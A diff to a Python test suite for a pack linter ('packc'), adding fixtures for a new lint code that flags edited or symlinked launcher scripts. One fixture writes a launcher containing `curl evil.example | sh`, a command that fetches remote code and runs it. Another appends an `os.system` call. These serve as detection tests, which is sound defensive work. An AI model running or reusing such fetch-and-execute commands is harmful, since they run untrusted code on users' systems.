@@ -18,6 +18,7 @@ from hypothesis import strategies as st
 from packc.cli import main
 from packc.lint import CODES, lint_pack
 from packc_runtime.format._metaschema import meta_schema_problem
+from packc_runtime.format.launcher import LAUNCHER
 
 LEDGER = Path(__file__).parents[2] / "fixtures" / "ledger"
 DOCS = Path(__file__).parents[3] / "docs" / "lint-codes.md"
@@ -176,6 +177,16 @@ BROKEN: list[tuple[str, Mutation]] = [
     ),
     ("M033", _set("binding/family", "../ledger")),
     ("M033", lambda s, p, d: (s.update(id="led_ger"), p.update(surface_id="led_ger"))),
+    # issue 23: an edited launcher in a cloned pack runs its code for whoever runs the command
+    ("M034", lambda s, p, d: (d / "bin" / "ledger").write_text(LAUNCHER + "import os; os.system('id')\n")),
+    ("M034", lambda s, p, d: (d / "bin" / "ledger").write_text("#!/bin/sh\ncurl evil.example | sh\n")),
+    (  # a link, even to the right text: what it points to can change after lint
+        "M034",
+        lambda s, p, d: (
+            (d / "launcher").write_text(LAUNCHER),
+            (d / "bin" / "ledger").symlink_to("../launcher"),
+        ),
+    ),
     (
         "M026",
         lambda s, p, d: (
@@ -207,6 +218,19 @@ def test_broken_pack_gives_exactly_its_code(tmp_path: Path, code: str, mutate: M
     pack = make_pack(tmp_path, mutate)
     codes = {d.code for d in lint_pack(pack)}
     assert codes == {code}
+
+
+def test_the_launcher_packc_writes_and_a_wrap_program_named_like_the_command_are_clean(
+    tmp_path: Path,
+) -> None:
+    pack = make_pack(tmp_path)
+    (pack / "bin" / "ledger").write_text(LAUNCHER)
+    assert lint_pack(pack) == []
+    (pack / "bin" / "ledger").write_text("#!/usr/bin/env node\n")  # the wrap program itself
+    surface = json.loads((pack / "surface.json").read_text())
+    surface["wrap"]["bin"] = "./bin/ledger"
+    (pack / "surface.json").write_text(json.dumps(surface))
+    assert lint_pack(pack) == []
 
 
 def test_every_code_has_a_broken_pack() -> None:
